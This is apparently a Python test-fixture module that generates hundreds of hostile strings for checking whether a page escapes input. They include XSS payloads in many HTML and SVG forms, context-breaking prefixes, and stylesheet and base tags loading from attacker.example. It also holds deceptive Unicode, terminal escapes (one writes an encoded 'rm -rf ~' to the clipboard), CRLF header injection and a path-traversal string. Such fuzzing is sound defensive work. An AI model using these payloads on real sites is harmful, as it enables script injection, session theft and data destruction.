"""Texts that try to become more than text: markup of many kinds, characters that deceive, what no one expects. Each
names itself, so that a page that lets one through says which."""

from __future__ import annotations

import itertools

_SCRIPTS = (
    "<script>{call}</script>",
    "<img src=x onerror={call}>",
    "<svg onload={call}></svg>",
    "<svg><script>{call}</script></svg>",
    "<svg><animate onbegin={call} attributeName=x dur=1s></svg>",
    "<math><mtext><style><img src=x onerror={call}></style></mtext></math>",
    "<iframe srcdoc='<script>parent.{call}</script>'></iframe>",
    "<details open ontoggle={call}>",
    "<body onload={call}>",
    "<input autofocus onfocus={call}>",
    "<video><source onerror={call}></video>",
    "<a href='javascript:{call}' id=bait>here</a>",
    "<form action='javascript:{call}'><button autofocus>go</button></form>",
    "<template><script>{call}</script></template>",
    "<noscript><p title='</noscript><script>{call}</script>'></noscript>",
    "<object data='data:text/html,<script>{call}</script>'></object>",
    "<embed src='data:image/svg+xml,<svg onload={call}>'>",
    "<meta http-equiv=refresh content='0;url=javascript:{call}'>",
    "<base href='//attacker.example/'>",
    "<link rel=stylesheet href='//attacker.example/x.css'>",
    "<style>*{{background:url(//attacker.example/{call})}}</style>",
    "<style>@import '//attacker.example/x.css';</style>",
    "<marquee onstart={call}>",
    "<plaintext>",
    "<xmp><script>{call}</script>",
    "<!--><script>{call}</script>-->",
    "<![CDATA[<script>{call}</script>]]>",
    "<?xml version='1.0'?><script>{call}</script>",
)
_BREAKS = (
    "{}",
    '">{}',
    "'>{}",
    "`>{}",
    "</title>{}",
    "</pre></details>{}",
    "</textarea></select></option>{}",
    "</script></style>{}",
    "--></svg></td></table>{}",
    "</a></li></main>{}",
    '" onmouseover="{}" x="',
    "' onfocus='{}' autofocus x='",
    "{{{{ {} }}}}",
    "{{% raw '{}' %}}",
    "&lt;{}&gt;&#60;&#x3c;",
    "\\u003c{}\\x3e",
)
DECEPTIONS = (
    "invoice\u202efdp.exe", "\u2066a\u2069\u202ab\u202c\u2067c\u2069\u200e\u200f\u061c", "\x1b[2J\x1b[H\x1b[31mdone",
    "\x1b]52;c;cm0gLXJmIH4=\x07", "\x1b]8;;http://attacker.example\x1b\\docs\x1b]8;;\x1b\\", "\x9b2J\x90q\x9d0;t\x9c",
    "rejected\raccepted\x08\x7f", "ad\u200bmi\u200cn\u200d \u2060\ufeff\xad\u3164", "a\u2028b\u2029c\x85d",
    "ok\U000e0069\U000e0067\U000e006e\U000e006f", "ok\ufe00\ufe01\U000e0100", "\ud800 half \udfff", "\0<\0b>\0",
    "\ufffe\uffff", "Z\u0351\u036b\u0343a\u0363l\u0368g\u0367o" * 40, "\u115f\u1160\u17b4 nothing \u3164", "😀" * 400,
    "عربي עברית " * 50, "x" * 30_000, "word " * 8_000, "\n" * 3_000, "\t" * 2_000, "<" * 10_000,
    "&" * 10_000, '"' * 10_000, "", " ", "\r\n\r\nSet-Cookie: a=b", "%00%3Cscript%3E", "../../etc/passwd",
    "javascript:alert(1)", "data:text/html,x",
)  # fmt: skip
# What a text that gets through calls; a page that was not injected has no such function.
CALL = "pwned({})"


def hostile_texts(count: int = 500) -> tuple[str, ...]:
    """So many texts; the call in each names its place among them."""
    made = itertools.cycle(itertools.product(_BREAKS, _SCRIPTS))
    texts = list(DECEPTIONS)
    while len(texts) < count:
        around, script = next(made)
        texts.append(around.format(script.format(call=CALL.format(len(texts)))))
    return tuple(texts[:count])
